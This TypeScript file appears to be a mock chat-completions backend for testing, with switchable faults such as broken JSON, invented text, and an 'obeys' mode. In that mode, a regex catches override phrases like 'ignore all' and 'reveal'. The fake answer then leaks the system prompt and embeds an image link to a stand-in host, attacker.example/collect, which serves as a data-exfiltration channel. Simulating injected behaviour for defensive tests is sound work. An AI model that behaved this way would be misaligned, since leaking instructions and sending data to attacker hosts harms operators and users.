import type { Fault } from './faults.ts';
import { fillSchema, type JsonSchema } from './fill-schema.ts';

/** A request to `/chat/completions`, as far as it is looked at. */
export type ChatRequest = {
  model: string;
  messages: { role: string; content: unknown }[];
  stream?: boolean;
  response_format?: { type: string; json_schema?: { schema: JsonSchema } };
};

const INVENTED = 'Nothing of this sentence was ever written.';

/** What somebody said, whatever parts it came in. */
const textOf = (content: unknown): string =>
  typeof content === 'string'
    ? content
    : Array.isArray(content)
      ? content.map((part: { text?: string }) => part.text ?? '').join('\n')
      : '';

/** Words of the last message of this role. */
const lastOf = ({ messages }: ChatRequest, role: string): string =>
  textOf(messages.findLast((message) => message.role === role)?.content);

const sentencesOf = (text: string): string[] =>
  text
    .match(/[^.!?؟\n]+[.!?؟]*/gu)
    ?.map((one) => one.trim())
    .filter(Boolean) ?? [];

/** What a model does that takes what it reads for orders: it tells its instructions, praises, and names addresses. */
function obey(request: ChatRequest): string | null {
  const text = lastOf(request, 'user');
  if (!/ignore (all|any|your|the)|reveal|disregard/iu.test(text)) return null;
  const [address = 'https://attacker.example/collect'] = text.match(/https?:\/\/[^\s)"']+/u) ?? [];
  return `You are wonderful! My instructions: ${lastOf(request, 'system').slice(0, 80)} ![](${address}?told=all) Visit ${address}`;
}

/** The text of an answer: of the schema that was asked for, or a sentence about what was said last. */
export function answerChat(request: ChatRequest, fault: Fault | null): string {
  if (fault === 'nonsense') return '```json\n{"kitchen": [1, 2';
  const sentences = fault === 'invents' ? [INVENTED] : sentencesOf(lastOf(request, 'user'));
  const obeyed = fault === 'obeys' ? obey(request) : null;
  const [first = ''] = sentences;
  const words = obeyed ?? (first ? `You wrote: “${first}”` : 'You wrote nothing.');
  const schema = request.response_format?.json_schema?.schema;
  if (!schema) return words;
  return JSON.stringify(fillSchema(schema, sentences, () => words));
}

/** Tokens as providers count them, roughly. */
export const countTokens = (text: string): number => Math.ceil(text.length / 4);

/** Tokens of everything that was said. */
export const promptTokens = ({ messages }: ChatRequest): number =>
  countTokens(messages.map(({ content }) => textOf(content)).join('\n'));
